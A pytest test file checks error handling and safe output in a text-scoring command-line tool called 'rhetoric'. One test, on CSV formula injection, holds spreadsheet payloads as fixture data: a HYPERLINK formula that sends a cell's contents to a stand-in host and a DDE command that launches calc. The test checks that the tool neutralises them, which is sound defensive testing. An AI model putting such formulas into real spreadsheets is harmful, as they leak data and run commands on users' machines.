"""The command line under hostile or careless use: one-line errors, no loss, safe outputs (issue 10).

Every file is built in the test. Errors are one line that names the file and
the problem; never a traceback.
"""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pandas as pd
import pytest

import rhetoric.cli as cli
from rhetoric.cli import main

pytestmark = pytest.mark.slow

STORY = "The convoy left Raqqa. Officials said it may have carried fighters.\n"


def one_line_error(err: str) -> str:
    assert "Traceback" not in err, err
    lines = [line for line in err.splitlines() if line.startswith("rhetoric: error:")]
    assert len(lines) == 1, err
    return lines[0]


def test_a_file_name_that_is_not_utf8_is_scored(tmp_path, capsys):
    (tmp_path / "ok.txt").write_text(STORY, encoding="utf-8")
    bad = os.path.join(os.fsencode(tmp_path), b"caf\xe9 \xff.txt")
    with open(bad, "wb") as fh:
        fh.write(STORY.encode())
    out = tmp_path / "p.parquet.csv"
    assert main(["score", str(tmp_path), "-o", str(out), "--no-progress"]) == 0
    df = pd.read_csv(out)
    assert sorted(set(df["doc_id"])) == ["caf\ufffd \ufffd", "ok"]
    assert "Traceback" not in capsys.readouterr().err


def test_a_file_name_that_is_not_utf8_reaches_parquet(tmp_path, analyzer):
    bad = os.path.join(os.fsencode(tmp_path), b"\xff\xfe.txt")
    with open(bad, "wb") as fh:
        fh.write(STORY.encode())
    docs = list(cli.iter_documents([str(tmp_path)]))
    (s,) = analyzer.score_many(docs)
    s.paragraphs.to_parquet(tmp_path / "x.parquet")  # pyarrow raised on the doc_id before
    assert s.doc_id == "\ufffd\ufffd"


@pytest.mark.parametrize("codec", ["rot13", "base64", "zlib"])
def test_codecs_that_are_not_text_encodings(tmp_path, capsys, codec):
    f = tmp_path / "a.txt"
    f.write_text(STORY, encoding="utf-8")
    assert main(["score", str(f), "--encoding", codec]) == 1
    line = one_line_error(capsys.readouterr().err)
    assert f"{f}: '{codec}' is not a text encoding" in line


@pytest.fixture()
def story(tmp_path) -> Path:
    f = tmp_path / "story.txt"
    f.write_text(STORY, encoding="utf-8")
    return f


@pytest.mark.parametrize(
    "name,make_output,message",
    [
        (
            "existing folder",
            lambda d: (d / "outdir").mkdir() or d / "outdir",
            "is a folder; -o needs a file name",
        ),
        (
            "under a regular file",
            lambda d: (d / "plain").write_text("x") and d / "plain" / "p.csv",
            "which is a file, not a folder",
        ),
        ("the input itself", lambda d: d / "story.txt", "-o names an input file"),
    ],
)
def test_bad_output_paths_are_refused_before_any_work(story, capsys, name, make_output, message):
    out = make_output(story.parent)
    assert main(["score", str(story), "-o", str(out)]) == 2
    assert message in one_line_error(capsys.readouterr().err)
    assert story.read_text(encoding="utf-8") == STORY  # the input is intact


def test_output_naming_an_input_inside_a_folder(story, capsys):
    assert main(["score", str(story.parent), "-o", str(story)]) == 2
    assert "-o names an input file" in one_line_error(capsys.readouterr().err)
    assert story.read_text(encoding="utf-8") == STORY


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("command", ["score", "spans", "html"])
def test_a_full_disk_is_one_line(story, capsys, command):
    assert main([command, str(story), "-o", "/dev/full"]) == 2
    assert "/dev/full: cannot write (no space left on the device)" in one_line_error(capsys.readouterr().err)


def test_ctrl_c_leaves_no_file_that_looks_complete(story, tmp_path, capsys, monkeypatch):
    out = tmp_path / "p.csv"
    out.write_text("old,complete\n1,2\n", encoding="utf-8")

    def interrupted(results, fh, table, fmt):
        fh.write("doc_id,para\nstory,0\n")  # half a table
        raise KeyboardInterrupt

    monkeypatch.setattr(cli, "write_tables", interrupted)
    assert main(["score", str(story), "-o", str(out)]) == 130
    assert f"interrupted; {out} was not written" in capsys.readouterr().err
    assert out.read_text(encoding="utf-8") == "old,complete\n1,2\n"  # the old file, untouched
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".p.")] == []  # no temporary left


def test_unreadable_sub_folder_is_reported(tmp_path, capsys, monkeypatch):
    # CI runs as root, which reads everything: the permission error is simulated.
    (tmp_path / "ok.txt").write_text(STORY, encoding="utf-8")
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "hidden.txt").write_text(STORY, encoding="utf-8")
    real = os.scandir

    def scandir(path="."):
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    code = main(["score", str(tmp_path), "--format", "csv"])
    captured = capsys.readouterr()
    assert code == 1
    assert (
        f"{locked}: folder cannot be read (permission denied); the files in it were not read" in captured.err
    )
    assert pd.read_csv(io.StringIO(captured.out))["doc_id"].unique().tolist() == ["ok"]


def test_symlink_loop_is_reported_as_a_loop(tmp_path, capsys):
    (tmp_path / "ok.txt").write_text(STORY, encoding="utf-8")
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    assert main(["score", str(tmp_path), "--format", "csv"]) == 1
    assert f"{loop}: a symbolic link loop" in capsys.readouterr().err
    assert main(["score", str(loop)]) == 1
    err = capsys.readouterr().err
    assert f"{loop}: a symbolic link loop" in one_line_error(err) and "no such file" not in err


def test_folders_skip_readme_and_license_and_say_so(tmp_path, capsys):
    for name in ("story.txt", "README.md", "LICENSE.txt", "notes/README.txt", "notes/other.md"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(STORY, encoding="utf-8")
    assert main(["score", str(tmp_path), "--format", "csv"]) == 0
    captured = capsys.readouterr()
    assert pd.read_csv(io.StringIO(captured.out))["doc_id"].unique().tolist() == ["notes/other", "story"]
    assert "skipped LICENSE.txt, README.md, notes/README.txt (not an article" in captured.err
    assert (
        main(["score", str(tmp_path), "--format", "csv", "--include", "README*", "--exclude", "notes/*"]) == 0
    )
    assert pd.read_csv(io.StringIO(capsys.readouterr().out))["doc_id"].unique().tolist() == ["README"]


def test_csv_cells_cannot_run_as_formulas(tmp_path, capsys):
    f = tmp_path / "=HYPERLINK(1).txt"
    f.write_text(
        '=HYPERLINK("http://evil.example/?"&A1,"click")\n\n+cmd|"/c calc"!A0\n\n-2+3 may be so.\n\n@SUM(1)\n',
        encoding="utf-8",
    )
    assert main(["score", str(f), "--format", "csv"]) == 0
    df = pd.read_csv(io.StringIO(capsys.readouterr().out), keep_default_na=False)
    assert df["doc_id"].unique().tolist() == ["'=HYPERLINK(1)"]
    assert df["text"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        '\'+cmd|"/c calc"!A0',
        "'-2+3 may be so.",
        "'@SUM(1)",
    ]
    assert df["certainty"].dtype.kind == "f" and (df["certainty"] < 0).any()  # numbers stay numbers
    # JSONL keeps the text as it is, so raw[start:end] == text holds there.
    assert main(["spans", str(f), "--format", "jsonl"]) == 0
    raw = f.read_text(encoding="utf-8")
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert rows and all(raw[r["start"] : r["end"]] == r["text"] for r in rows)
    assert main(["score", str(f), "--format", "jsonl"]) == 0
    texts = [json.loads(line)["text"] for line in capsys.readouterr().out.splitlines()]
    assert texts[2] == "-2+3 may be so."


def test_mixed_encoding_warning_reaches_stderr(tmp_path, capsys):
    f = tmp_path / "mixed.txt"
    f.write_bytes("“It may rain,” he said.\n\n".encode() + "“It will not,” she said.\n".encode("cp1252"))
    assert main(["score", str(f), "--format", "csv"]) == 0
    captured = capsys.readouterr()
    assert "rhetoric: warning:" in captured.err and "line(s) 3 are not UTF-8" in captured.err
    assert "“It will not,” she said." in captured.out
